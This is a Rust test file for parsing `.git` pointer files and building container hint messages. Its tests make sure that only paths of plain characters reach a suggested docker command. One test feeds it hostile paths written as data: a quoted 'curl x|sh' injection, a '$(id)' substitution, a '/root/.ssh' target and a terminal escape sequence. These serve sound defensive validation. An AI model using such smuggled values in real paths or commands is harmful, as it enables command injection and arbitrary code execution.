//! Pointers and hints as texts, and the remedy for each fault.

use proptest::prelude::*;

use super::*;

#[test]
fn pointers_are_read_as_git_reads_them() {
    for (text, expected) in [
        (
            &b"gitdir: /r/.git/worktrees/x\n"[..],
            Some(&b"/r/.git/worktrees/x"[..]),
        ),
        (b"gitdir: ../.git/modules/m", Some(b"../.git/modules/m")),
        (b"gitdir: a\r\n\n", Some(b"a")),
        (b"gitdir:  a b \n", Some(b" a b ")),
        (b"gitdir: a\nb\n", Some(b"a\nb")),
        (b"gitdir: \n", None),
        (b"gitdir: ", None),
        (b"gitdir:/a", None),
        (b" gitdir: /a", None),
        (b"GITDIR: /a", None),
        (b"gitdir: a\0b", None),
        (b"ref: refs/heads/main\n", None),
        (b"", None),
    ] {
        assert_eq!(target(text), expected, "{text:?}");
    }
}

#[test]
fn only_a_repository_of_plain_letters_gets_into_a_command() {
    for (target, expected) in [
        ("/home/me/repo/.git/worktrees/x", Some("/home/me/repo/.git")),
        (
            "/a/worktrees/b/.git/worktrees/x",
            Some("/a/worktrees/b/.git"),
        ),
        ("/repo/.git/modules/x", None),
        ("../repo/.git/worktrees/x", None),
        // A hint that would reveal a secret, or run a command from the workspace.
        ("/root/.ssh/worktrees/x", None),
        ("/a/../root/.git/worktrees/x", None),
        ("/a\";curl x|sh;\"/.git/worktrees/x", None),
        ("/$(id)/.git/worktrees/x", None),
        ("/a:/b/.git/worktrees/x", None),
        ("/a b/.git/worktrees/x", None),
        ("/a\n/.git/worktrees/x", None),
    ] {
        assert_eq!(
            repository_of(target.as_bytes()),
            expected.map(str::as_bytes),
            "{target}"
        );
    }
}

#[test]
fn each_trouble_has_its_remedy() {
    let same = "mount the repository that it belongs to at the path that it has on the host";
    let absent = "which is not in this container; hint";
    for (target, fault, expected) in [
        ("", Fault::Kind, "is neither a folder nor a file"),
        (
            "",
            Fault::NoPointer,
            "is a file without `gitdir: PATH`; hint: restore it, or remove it and run `git init`",
        ),
        (
            "/r/.git/worktrees/x",
            Fault::Elsewhere,
            &format!(
                "points to `/r/.git/worktrees/x`, {absent}: docker run -v \"/r/.git:/r/.git\" …"
            ),
        ),
        (
            "/a\x1b[2J",
            Fault::Elsewhere,
            &format!("points to `/a?[2J`, {absent}: {same}"),
        ),
        (
            "../.git/modules/m",
            Fault::Elsewhere,
            &format!(
                "points to `../.git/modules/m`, {absent}: mount the repository that it belongs to as the workspace"
            ),
        ),
        (
            "/r",
            Fault::NoCommonFolder,
            &format!("is a worktree of a repository {absent}: {same}"),
        ),
        (
            "",
            Fault::Missing("HEAD"),
            "is not one: its `HEAD` is missing or empty; hint: restore it, or remove `.git` and run `git init`",
        ),
        (
            "",
            Fault::Denied("objects", Errno::ACCESS),
            "cannot be used: `objects`: Permission denied (errno 13); hint: on the host: `sudo chown -R 1000:1000 .git`",
        ),
        (
            "",
            Fault::Denied("objects", Errno::IO),
            "cannot be used: `objects`: Input/output error (errno 5)",
        ),
    ] {
        let trouble = Trouble {
            workspace: c"/w",
            target: target.as_bytes(),
            fault,
            me: Ids {
                uid: 1000,
                gid: 1000,
            },
        };
        let expected = format!("git repository `/w/.git` {expected}");
        assert_eq!(trouble.to_string(), expected);
    }
}

proptest! {
    /// Any `.git` file gives a path that C can take, or `None`.
    #[test]
    fn any_pointer_is_read(bytes: Vec<u8>, has_prefix: bool) {
        let prefix: &[u8] = if has_prefix { b"gitdir: " } else { b"" };
        let text = [prefix, &bytes].concat();
        if let Some(path) = target(&text) {
            prop_assert!(text[8..].starts_with(path));
            prop_assert!(!path.is_empty() && !path.contains(&0));
            prop_assert!(!path.ends_with(b"\n") && !path.ends_with(b"\r"));
        }
    }

    /// Whatever it points to, the command in a hint holds only a path of plain letters.
    #[test]
    fn any_target_is_harmless_in_a_hint(target in "[/a.\"$`: ;\n-]{0,12}(/\\.git)?/worktrees/.{0,4}") {
        if let Some(folder) = repository_of(target.as_bytes()) {
            let folder = std::str::from_utf8(folder).unwrap();
            prop_assert!(target.starts_with(folder) && folder.ends_with("/.git"));
            prop_assert!(!folder.contains(['"', '$', '`', ':', ' ', ';', '\n']));
        }
    }
}
